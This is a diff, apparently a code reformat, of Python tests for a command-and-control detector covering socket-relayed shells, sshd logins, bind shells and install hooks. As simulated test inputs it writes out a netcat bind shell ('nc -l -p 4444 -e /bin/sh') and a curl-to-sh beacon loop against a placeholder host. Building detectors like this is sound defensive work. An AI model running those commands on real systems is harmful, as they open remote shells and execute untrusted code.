@@ -13,8 +13,9 @@ TTY = {"stdio": ("chr", "chr", "chr"), "stdio_ids": ("pty:0", "pty:0", "pty:0"),
 
 
 def ends(*ids: str, peers: tuple[str, ...] = ("", "", "")) -> dict[str, Any]:
-    kinds = tuple("fifo" if i.startswith("fifo") else "socket" if i.startswith(("unix", "sock")) else "chr"
-                  for i in ids)
+    kinds = tuple(
+        "fifo" if i.startswith("fifo") else "socket" if i.startswith(("unix", "sock")) else "chr" for i in ids
+    )
     return {"stdio": kinds, "stdio_ids": ids, "stdio_peers": peers}
 
 
@@ -66,8 +67,14 @@ def test_node_socketpair_spawn_before_connect() -> None:
     """node spawns sh on socketpairs, then connects: the connect completes the relay (one alert on sh)."""
     w = World()
     w.spawn(200, None, "/usr/bin/node", ("node", "-e", "net+child_process"), t=0, **TTY)
-    w.spawn(201, 200, "/bin/sh", ("/bin/sh",), t=0.1,
-            **ends("unix:11", "unix:13", "unix:15", peers=("unix:12", "unix:14", "unix:16")))
+    w.spawn(
+        201,
+        200,
+        "/bin/sh",
+        ("/bin/sh",),
+        t=0.1,
+        **ends("unix:11", "unix:13", "unix:15", peers=("unix:12", "unix:14", "unix:16")),
+    )
     assert c2(w) == []  # nothing yet: node holds no connection
     connect(w, 200, 0.2, sock="sock:57")
     hits = c2(w)
@@ -80,11 +87,34 @@ def test_sshd_pty_login_is_quiet() -> None:
     w = World()
     w.spawn(100, None, "/usr/sbin/sshd", ("sshd", "-D"), t=0, **TTY)
     w.fork(101, 100, t=1)
-    w.feed(Accept(**w.header(100, 1.0), fd=4, family="ipv4", transport="tcp", saddr=REMOTE, sport=50000, lport=22,
-                  laddr=LOCAL, sock_id="sock:60"))
-    w.spawn(102, 101, "/usr/sbin/sshd", ("sshd", "-R"), t=1.1, **ends("sock:60", "sock:60", "null"),
-            stdio_socket_fd=0, stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE, stdio_dport=50000,
-            stdio_laddr=LOCAL, stdio_lport=22)
+    w.feed(
+        Accept(
+            **w.header(100, 1.0),
+            fd=4,
+            family="ipv4",
+            transport="tcp",
+            saddr=REMOTE,
+            sport=50000,
+            lport=22,
+            laddr=LOCAL,
+            sock_id="sock:60",
+        )
+    )
+    w.spawn(
+        102,
+        101,
+        "/usr/sbin/sshd",
+        ("sshd", "-R"),
+        t=1.1,
+        **ends("sock:60", "sock:60", "null"),
+        stdio_socket_fd=0,
+        stdio_family="ipv4",
+        stdio_transport="tcp",
+        stdio_daddr=REMOTE,
+        stdio_dport=50000,
+        stdio_laddr=LOCAL,
+        stdio_lport=22,
+    )
     w.feed(FdOpen(**w.header(102, 1.2), fd=7, kind="ptmx", end_id="ptm:3", access="rw"))
     w.spawn(103, 102, "/usr/bin/bash", ("-bash",), t=1.3, **ends("pty:3", "pty:3", "pty:3"))
     assert w.alerts == []
@@ -115,12 +145,34 @@ def test_bind_shell_direction() -> None:
     """nc -l -e sh: the accepted socket on sh's stdio; source is the peer, destination the listening port."""
     w = World()
     w.spawn(200, None, "/usr/bin/nc.traditional", ("nc", "-l", "-p", "4444", "-e", "/bin/sh"), t=0, **TTY)
-    w.feed(Accept(**w.header(200, 0.5), fd=4, family="ipv4", transport="tcp", saddr=REMOTE, sport=51000, lport=4444,
-                  laddr=LOCAL, sock_id="sock:70"))
-    w.feed(Exec(
-        **w.header(200, 0.6), filename="/bin/sh", args=("/bin/sh",), **ends("sock:70", "sock:70", "sock:70"),
-        stdio_socket_fd=0, stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE, stdio_dport=51000,
-        stdio_laddr=LOCAL, stdio_lport=4444))
+    w.feed(
+        Accept(
+            **w.header(200, 0.5),
+            fd=4,
+            family="ipv4",
+            transport="tcp",
+            saddr=REMOTE,
+            sport=51000,
+            lport=4444,
+            laddr=LOCAL,
+            sock_id="sock:70",
+        )
+    )
+    w.feed(
+        Exec(
+            **w.header(200, 0.6),
+            filename="/bin/sh",
+            args=("/bin/sh",),
+            **ends("sock:70", "sock:70", "sock:70"),
+            stdio_socket_fd=0,
+            stdio_family="ipv4",
+            stdio_transport="tcp",
+            stdio_daddr=REMOTE,
+            stdio_dport=51000,
+            stdio_laddr=LOCAL,
+            stdio_lport=4444,
+        )
+    )
     hits = c2(w)
     assert len(hits) == 1
     assert hits[0]["destination"] == {"ip": LOCAL, "port": 4444}
@@ -131,12 +183,19 @@ def test_bind_shell_direction() -> None:
 def test_curl_pipe_sh_is_a_notice_and_a_loop_of_it_a_beacon() -> None:
     """curl | sh once: a low download notice; the same creator again against one destination: a beacon."""
     w = World()
-    w.spawn(200, None, "/usr/bin/bash", ("bash", "-c", "while :; do curl -s http://H/c | sh; sleep 1; done"), t=0,
-            **TTY)
+    w.spawn(
+        200, None, "/usr/bin/bash", ("bash", "-c", "while :; do curl -s http://H/c | sh; sleep 1; done"), t=0, **TTY
+    )
     for i in range(2):
         t = 1 + i * 2
-        w.spawn(300 + i, 200, "/usr/bin/curl", ("curl", "-s", "http://H/c"), t=t, **ends("pty:0", f"fifo:9:{40 + i}",
-                                                                                         "pty:0"))
+        w.spawn(
+            300 + i,
+            200,
+            "/usr/bin/curl",
+            ("curl", "-s", "http://H/c"),
+            t=t,
+            **ends("pty:0", f"fifo:9:{40 + i}", "pty:0"),
+        )
         w.spawn(310 + i, 200, "/bin/sh", ("sh",), t=t, **ends(f"fifo:9:{40 + i}", "pty:0", "pty:0"))
         connect(w, 300 + i, t + 0.1, sock=f"sock:{80 + i}", dport=80)
         if i == 0:
@@ -167,8 +226,14 @@ def test_install_hook_loop_needs_a_shell_child() -> None:
     w.spawn(101, 100, "/bin/sh", ("sh", "-c", "node install.js"), t=0.1, **TTY)
     w.spawn(102, 101, "/usr/bin/node", ("node", "install.js"), t=0.2, **TTY)
     connect(w, 102, 0.3, sock="sock:90")
-    w.spawn(103, 102, "/work/node_modules/esbuild/bin/esbuild", ("esbuild", "--version"), t=0.4,
-            **ends("null", "fifo:9:60", "fifo:9:61"))
+    w.spawn(
+        103,
+        102,
+        "/work/node_modules/esbuild/bin/esbuild",
+        ("esbuild", "--version"),
+        t=0.4,
+        **ends("null", "fifo:9:60", "fifo:9:61"),
+    )
     assert c2(w) == []
     w.spawn(104, 102, "/bin/sh", ("/bin/sh", "-c", "id"), t=0.5, **ends("null", "fifo:9:62", "fifo:9:63"))
     hits = c2(w)
